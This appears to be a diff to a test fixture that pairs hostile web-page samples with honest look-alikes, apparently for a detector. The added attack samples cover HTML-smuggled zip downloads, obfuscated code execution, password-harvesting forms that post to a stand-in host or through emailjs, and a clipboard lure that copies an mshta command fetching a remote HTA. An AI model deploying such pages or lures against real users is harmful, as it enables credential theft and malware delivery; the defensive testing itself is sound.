@@ -64,10 +64,51 @@ ATTACKS = {
         "navigator.clipboard.writeText('powershell -c ping a.example # C:\\\\report.docx')",
         "<p>Open Explorer, select the address bar (Ctrl+L) and paste the path of the file.</p>",
     ),
+    "a link that the page presses": page(
+        "x.click()", f"<a id=x download='a.zip' href='data:application/zip;base64,{ZIP}'>a</a>"
+    ),
+    "a file that the browser decodes": page(
+        f"fetch('data:application/zip;base64,{ZIP}').then(r=>r.blob()).then(b=>{{{DOWNLOAD}}})"
+    ),
+    "a file in moved numbers, by names in brackets": page(
+        f"var b=new Uint8Array({numbers(bytes((one + 13) % 256 for one in b'PK' + bytes(90)))}.map(n=>n-13));"
+        "a['href']=URL['createObjectURL'](new File([b],'a.zip'));a['download']='a.zip';a['click']()"
+    ),
+    "a program made by a name": page(f"[]['filter']['constructor'](atob('{SHORT}'))()"),
+    "a page in pieces out of order": page(
+        f"var p={[base64.b64encode(bytes([one]) * 60).decode() for one in range(60, 90)]};"
+        "document.write(order.map(i=>atob(p[i])).join(''))",
+        "",
+    ),
+    "six signs alone": page("(![]+[])[+[]]" * 80),
+    "a form that a script sends on": page(
+        "b.onclick=()=>fetch('https://a.example/p',{method:'POST',body:p.value})",
+        '<p>Log in to see the invoice</p><input value="c.martin@hospital.example"><input id=p type="password">',
+    ),
+    "a form that a service of mails sends on": page(
+        "emailjs.sendForm('service_1','template_2',f)", "<form id=f><input name=m><input type=password></form>"
+    ),
+    "a command for Explorer": page(
+        "t.value='mshta http://203.0.113.5/v.hta';t.select();document.execCommand('copy')",
+        "<p>Ouvrez l'explorateur de fichiers (Ctrl+L), puis collez et validez.</p>",
+    ),
 }
 HONEST = {
     "a table saved by the page": page(f"var b='a;b\\n1;2';{DOWNLOAD}"),
     "a picture saved by the page": page(f"var b=atob(canvas.toDataURL().split(',')[1]);{DOWNLOAD}"),
+    "a table saved by the page's own link": page(
+        "a.href='data:text/csv;base64,YTtiCjE7Mg==';a.download='t.csv';a.click()", "<a id=a>Save</a>"
+    ),
+    "a diagram with its library": page(
+        f"var bdata='{'A' * 900}';var u=new Uint8Array(n);{DOWNLOAD};" + "function draw(a,b){return a+b};" * 12_000
+    ),
+    "an address that robots don't gather": page(
+        "document.write(unescape('%3Ca%20href%3D%22mailto%3Ainfo%40a.example%22%3Eus%3C%2Fa%3E'))"
+    ),
+    "a sign-in page that was saved": page(
+        "fetch('https://a.example/session')", '<form action="/login"><input name=u><input type=password></form>'
+    ),
+    "names of things in brackets": page(f"var t={{}};t['name']=document['title'];t['data']='{'QUJD' * 120}';show(t)"),
     "a token that is read": page("var t=JSON.parse(atob('eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9'));show(t.alg)"),
     "a curve": page(f"plot({numbers(bytes(range(240)))});var c=String.fromCharCode(65)"),
     "a key to be copied": page("navigator.clipboard.writeText(field.value)", "<p>Then press Ctrl + V to paste it.</p>"),
